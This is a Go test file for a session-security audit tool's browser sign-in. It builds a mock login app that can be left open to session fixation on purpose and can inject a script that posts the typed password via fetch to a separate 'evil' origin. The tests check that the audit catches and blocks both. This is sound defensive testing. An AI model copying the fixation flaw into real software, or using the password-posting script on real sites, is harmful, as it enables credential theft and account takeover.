package auditbrowser

import (
	"context"
	"crypto/rand"
	"encoding/hex"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"strings"
	"sync"
	"testing"

	"github.com/sessionguard/sessionguard/audit"
)

const (
	testUser = "alice"
	// testPassword has characters whose encodings differ.
	testPassword = `s3cr et&"<pässwörd>€'`
)

// chromium returns the browser to drive. Without one the test skips,
// except under CI, where a missing browser fails.
func chromium(t *testing.T) string {
	t.Helper()
	p, err := (&Driver{}).chrome()
	if err == nil {
		return p
	}
	if os.Getenv("CI") != "" {
		t.Fatalf("%v; CI must run the browser tests (scripts/test-deps.sh installs chromium)", err)
	}
	t.Skipf("%v; install chromium to run the browser tests", err)
	return ""
}

// spa is a single-page application whose login form is built by script,
// so the audit's plain-HTTP sign-in cannot find it.
type spa struct {
	*httptest.Server
	mu       sync.Mutex
	sessions map[string]string // ID → user ("" anonymous)
	uris     []string
}

func randID() string {
	b := make([]byte, 16)
	_, _ = rand.Read(b)
	return hex.EncodeToString(b)
}

// newSPA starts the application: vulnerable keeps the session ID across
// sign-in and adopts unknown IDs; exfil makes the page's script also post
// the password to that origin.
func newSPA(t *testing.T, vulnerable bool, exfil string) *spa {
	s := &spa{sessions: map[string]string{}}
	s.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		s.mu.Lock()
		defer s.mu.Unlock()
		s.uris = append(s.uris, r.RequestURI)
		sid := ""
		if c, err := r.Cookie("sid"); err == nil {
			if _, ok := s.sessions[c.Value]; ok || vulnerable {
				sid = c.Value
			}
		}
		set := func(id string) {
			http.SetCookie(w, &http.Cookie{Name: "sid", Value: id, Path: "/", HttpOnly: true, SameSite: http.SameSiteLaxMode})
		}
		switch {
		case r.URL.Path == "/login" && r.Method == http.MethodGet:
			if sid == "" {
				sid = randID()
				set(sid)
			}
			if _, ok := s.sessions[sid]; !ok {
				s.sessions[sid] = ""
			}
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			send := ""
			if exfil != "" {
				send = fmt.Sprintf(`fetch(%q + '/collect', {method: 'POST', mode: 'no-cors', body: f.elements.secret.value});`, exfil)
			}
			fmt.Fprintf(w, `<!doctype html><title>Sign in</title><div id="app">Loading…</div>
<script>
setTimeout(function () {
  var f = document.createElement('form'); f.method = 'post'; f.action = '/session';
  f.innerHTML = '<input name="login" autocomplete="username"><input type="password" name="secret"><button>Sign in</button>';
  f.addEventListener('submit', function () { %s });
  document.getElementById('app').replaceChildren(f);
}, 300);
</script>`, send)
		case r.URL.Path == "/session" && r.Method == http.MethodPost:
			if r.FormValue("login") != testUser || r.FormValue("secret") != testPassword {
				w.WriteHeader(http.StatusUnauthorized)
				fmt.Fprint(w, "<p>Wrong user name or password</p>")
				return
			}
			if sid == "" || !vulnerable {
				delete(s.sessions, sid)
				sid = randID()
				set(sid)
			}
			s.sessions[sid] = testUser
			http.Redirect(w, r, "/home", http.StatusSeeOther)
		case r.URL.Path == "/home":
			if u := s.sessions[sid]; u != "" {
				fmt.Fprintf(w, "<p>Welcome %s</p>", u)
				return
			}
			w.WriteHeader(http.StatusUnauthorized)
			fmt.Fprint(w, "<p>Not signed in</p>")
		case r.URL.Path == "/logout" && r.Method == http.MethodPost:
			delete(s.sessions, sid)
			http.SetCookie(w, &http.Cookie{Name: "sid", Path: "/", MaxAge: -1})
			http.Redirect(w, r, "/login", http.StatusSeeOther)
		default:
			http.NotFound(w, r)
		}
	}))
	t.Cleanup(s.Close)
	return s
}

func target(t *testing.T, base string) audit.Target {
	d := &Driver{}
	t.Cleanup(func() { _ = d.Close() })
	return audit.Target{BaseURL: base, User: testUser, Password: testPassword, CheckPath: "/home",
		LogoutPath: "/logout", LogoutMethod: "POST", Samples: -1, SignIn: d}
}

// TestBrowserSignIn: a form built by script cannot be audited over plain
// HTTP; through the browser the vulnerable variant fails fixation and the
// fixed one passes, every session is closed, and the password is in no
// output and no URL.
func TestBrowserSignIn(t *testing.T) {
	chromium(t)
	for _, vulnerable := range []bool{true, false} {
		t.Run(fmt.Sprintf("vulnerable=%v", vulnerable), func(t *testing.T) {
			t.Parallel()
			srv := newSPA(t, vulnerable, "")
			tg := target(t, srv.URL)
			tg.SignIn = nil
			if _, err := audit.Run(context.Background(), tg); !errors.Is(err, audit.ErrNoLoginForm) {
				t.Fatalf("plain HTTP: %v, want ErrNoLoginForm (the form is built by script)", err)
			}
			tg = target(t, srv.URL)
			// The fixed variant runs the wrong-password probe through the
			// browser; once is enough, and it costs a browser sign-in.
			tg.NoWrongPasswordProbe = vulnerable
			rep, err := audit.Run(context.Background(), tg)
			if err != nil {
				t.Fatalf("Run: %v", err)
			}
			want := map[string]audit.Status{audit.IDFixation: audit.StatusPass, audit.IDAdoptsUnknownID: audit.StatusPass,
				audit.IDLogoutInvalidation: audit.StatusPass, audit.IDFixationURL: audit.StatusSkip, audit.IDLoginCSRF: audit.StatusSkip}
			if vulnerable {
				want[audit.IDFixation], want[audit.IDAdoptsUnknownID] = audit.StatusFail, audit.StatusFail
			}
			for id, st := range want {
				c, _ := rep.Check(id)
				if c.Status != st {
					t.Errorf("%s: %s, want %s: %q", id, c.Status, st, c.Evidence)
				}
			}
			if rep.SessionsLeftOpen != 0 {
				t.Errorf("%d of %d sessions left open", rep.SessionsLeftOpen, rep.SessionsCreated)
			}
			for _, out := range outputs(t, rep) {
				if l := leaks(out); l != "" {
					t.Errorf("an output shows the password as %q", l)
				}
			}
			srv.mu.Lock()
			defer srv.mu.Unlock()
			for _, u := range srv.uris {
				if leaks(u) != "" {
					t.Errorf("the password reached a URL: %s", u)
				}
			}
		})
	}
}

// TestBrowserBlocksOtherOrigin: a page script posting the password to
// another origin is blocked; the audit could not audit, with
// ErrUnsafeSignIn, and the other origin received nothing.
func TestBrowserBlocksOtherOrigin(t *testing.T) {
	chromium(t)
	var got []string
	var mu sync.Mutex
	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		got = append(got, r.Method+" "+r.RequestURI)
		mu.Unlock()
	}))
	defer evil.Close()
	evilOrigin := strings.Replace(evil.URL, "127.0.0.1", "localhost", 1)
	srv := newSPA(t, false, evilOrigin)
	rep, err := audit.Run(context.Background(), target(t, srv.URL))
	if !errors.Is(err, audit.ErrUnsafeSignIn) || !strings.Contains(err.Error(), evilOrigin) {
		t.Fatalf("Run: %v, want ErrUnsafeSignIn naming %s", err, evilOrigin)
	}
	if rep.Verdict != audit.VerdictCouldNotAudit {
		t.Errorf("verdict %s", rep.Verdict)
	}
	mu.Lock()
	defer mu.Unlock()
	if len(got) != 0 {
		t.Errorf("the other origin received %q", got)
	}
	for _, out := range outputs(t, rep) {
		if l := leaks(out); l != "" {
			t.Errorf("an output shows the password as %q", l)
		}
	}
}

// TestCheckRefusesCA: a private CA cannot be given to Chromium.
func TestCheckRefusesCA(t *testing.T) {
	chromium(t)
	tg := target(t, "https://127.0.0.1:1")
	if err := (&Driver{}).Check(tg); err != nil {
		t.Fatalf("Check without a CA: %v", err)
	}
	if err := (&Driver{Chrome: "/nonexistent/chromium"}).Check(tg); !errors.Is(err, ErrNoChromium) {
		t.Errorf("Check with a missing browser: %v", err)
	}
	_ = exec.ErrNotFound
}

func outputs(t *testing.T, rep *audit.Report) []string {
	t.Helper()
	var outs []string
	for _, w := range []func(*strings.Builder) error{
		func(b *strings.Builder) error { return audit.WriteJSON(b, rep) },
		func(b *strings.Builder) error { return audit.WriteSARIF(b, rep) },
		func(b *strings.Builder) error { return audit.WriteMarkdown(b, rep) },
		func(b *strings.Builder) error { return audit.WriteText(b, rep, audit.TextOptions{Verbose: true}) },
	} {
		var b strings.Builder
		if err := w(&b); err != nil {
			t.Fatal(err)
		}
		outs = append(outs, b.String())
	}
	return outs
}

// leaks returns the first encoding of the password found in s.
func leaks(s string) string {
	for _, f := range secretForms(testPassword) {
		if strings.Contains(s, f) {
			return f
		}
	}
	return ""
}
